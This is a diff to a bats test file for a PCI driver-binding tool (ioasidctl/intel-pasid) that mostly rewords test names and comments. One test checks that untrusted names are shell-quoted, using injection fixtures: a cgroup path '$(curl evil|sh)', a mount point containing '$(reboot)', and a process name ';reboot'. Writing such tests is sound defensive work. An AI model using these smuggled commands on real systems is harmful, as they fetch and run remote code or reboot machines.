@@ -1,6 +1,6 @@
 #!/usr/bin/env bats
 # SPDX-License-Identifier: GPL-2.0-or-later
-# driver list; driver set and reset as far as they go without writing
+# driver list; driver set and reset as far as nothing is written
 
 setup_file()
 {
@@ -59,11 +59,12 @@ setup()
 	equal "$(find "$BATS_FILE_TMPDIR/intel-pasid" -type f -exec sha256sum {} + | sha256sum)" "$before"
 }
 
-@test "what is in use is refused, with what uses it and what would free it" {
+@test "a device in use is refused, with what uses it and how to free it" {
 	on intel-pasid driver set --dry-run nvme0 vfio-pci
 	fails 3 "nvme0: refused: /dev/nvme0n1 is mounted on /mnt/data" "to free it: umount /mnt/data"
 	on intel-pasid driver set --dry-run 00:10.0 uio_pci_sva
-	# It may be the holder of a context, which nobody ends by mistake, or only call itself so.
+	# The process may be the holder of a context, or only have such a name, so ending it is not
+	# suggested.
 	[[ $status == 3 && -z $output ]]
 	says_only "ioasidctl: 00:10.0: refused: process 98 (ioasid:vm) has /dev/vfio/devices/vfio0 open"
 	on intel-pasid driver reset --dry-run 00:11.0
@@ -73,7 +74,7 @@ setup()
 	fails 3 "00:08.0: refused: 0000:00:08.0 is a pci bridge"
 }
 
-@test "the holder of a context is known by its socket, and named by the whole of its name" {
+@test "the holder of a context is known by its socket, and named by its full name" {
 	local tree
 
 	tree=$(own intel-pasid)
@@ -91,8 +92,8 @@ setup()
 		"to free it: ioasidctl -c vm-of-production device remove 0000:00:10.0"
 }
 
-# shellcheck disable=SC2016	# for nobody to expand
-@test "names from outside are quoted for a shell, or not offered" {
+# shellcheck disable=SC2016	# must not be expanded
+@test "untrusted names are quoted for a shell, or not suggested" {
 	local tree
 
 	tree=$(own intel-pasid)
@@ -104,7 +105,7 @@ setup()
 		hint: to free it: umount '/mnt/$(reboot) it'\''s'
 	END
 	)"
-	# No service is called so, and this one is a user's own, not the system's.
+	# Not a valid service name, and the user's own service, not the system's.
 	echo '0::/$(curl evil|sh).service' >"$tree/proc/107/cgroup"
 	on intel-pasid driver reset --dry-run 00:11.0
 	fails 3 "00:11.0: refused: process 107 (bash) has /dev/uio0 open" "to free it: kill 107"
@@ -117,7 +118,7 @@ setup()
 	says_only "ioasidctl: 00:11.0: refused: process 107 (ioasid:;reboot) has /dev/uio0 open"
 }
 
-@test "several devices: all of them or none, and each that stands in the way is named" {
+@test "several devices: all of them or none, and each that blocks is named" {
 	on intel-pasid driver set --dry-run eth1 00:05.0 0000:00:05.0 vfio-pci
 	succeeds
 	equal "$output" "$(cat <<-'END'
@@ -141,7 +142,7 @@ setup()
 	equal "$output" 'write /sys/bus/pci/drivers_probe 0000:00:05.0'
 }
 
-# As Debian's linux-modules-7.3.4+deb13-amd64 has them, made by depmod.
+# From Debian's linux-modules-7.3.4+deb13-amd64, made by depmod.
 aliases()
 {
 	local modules=$1/lib/modules/7.3.4+deb13-amd64
@@ -157,7 +158,7 @@ aliases()
 	END
 }
 
-@test "a driver that is not made for the device is refused, as it could bring the machine down" {
+@test "a driver that does not support the device is refused, as it could crash the machine" {
 	aliases "$(own intel-pasid)"
 	on intel-pasid driver set --dry-run 00:05.0 e1000e
 	[[ $status == 3 && -z $output ]]
@@ -182,7 +183,7 @@ aliases()
 	on intel-pasid driver set --dry-run 00:05.0 pcieport
 	[[ $status == 3 && -z $output ]]
 	says "it could not be determined whether pcieport is made for this device: this kernel has no modules.alias"
-	# What is in use is so with any driver.
+	# A device in use is refused for any driver.
 	on intel-pasid driver set --dry-run --force=driver-match nvme0 e1000e
 	fails 3 "nvme0: refused: /dev/nvme0n1 is mounted on /mnt/data" "to free it: umount /mnt/data"
 	on intel-pasid driver set --dry-run --force=all 00:05.0 e1000e
@@ -192,7 +193,7 @@ aliases()
 	[[ $status == 2 ]]
 }
 
-@test "back to a device's own driver nothing is in the way" {
+@test "nothing blocks resetting a device to its own driver" {
 	local tree nic
 
 	tree=$(own intel-pasid)
@@ -207,7 +208,7 @@ aliases()
 	on intel-pasid driver set --dry-run 00:03.0 nvme
 	[[ $status == 3 && -z $output ]]
 	says "drivers made for it: e1000e" "to let the kernel choose its driver: ioasidctl driver reset 0000:00:03.0"
-	# Without the files the kernel is asked to find it.
+	# Without these files the kernel is asked to find the driver.
 	rm -r "${tree:?}/lib"
 	on intel-pasid driver set --dry-run 00:03.0 e1000e
 	[[ $status == 3 && -z $output ]]
@@ -217,7 +218,7 @@ aliases()
 	[[ $output == *'/driver_override \n'* ]]
 }
 
-@test "the drivers that a device may be given, and several" {
+@test "the drivers that a device may be bound to, and several devices" {
 	aliases "$(own intel-pasid)"
 	on intel-pasid driver set --list-drivers eth1
 	succeeds
@@ -232,7 +233,7 @@ aliases()
 	[[ $status == 6 && -z $output ]]
 }
 
-@test "a driver or device that is not there is status 6" {
+@test "a driver or device that does not exist is status 6" {
 	on intel-pasid driver set --dry-run 00:05.0 nodriver
 	fails 6 "nodriver: no such PCI driver in this kernel" "to load it, if it is a module: modprobe nodriver"
 	on intel-pasid driver set --dry-run 00:05.0 'no;driver'
@@ -249,7 +250,7 @@ aliases()
 	fails 6 "00:06.0: no such device" "'ioasidctl device list' shows all devices"
 }
 
-@test "a name that is none of a driver is wrong usage" {
+@test "a name that is not valid for a driver is wrong usage" {
 	local name
 
 	for name in 'a b' .. . a/b $'a\nb'; do
@@ -259,7 +260,7 @@ aliases()
 	done
 }
 
-@test "without an IOMMU group vfio-pci is of no use" {
+@test "without an IOMMU group vfio-pci is useless" {
 	on none driver set --dry-run 00:05.0 vfio-pci
 	[[ $status == 5 && -z $output ]]
 	says "00:05.0: the device is in no IOMMU group"
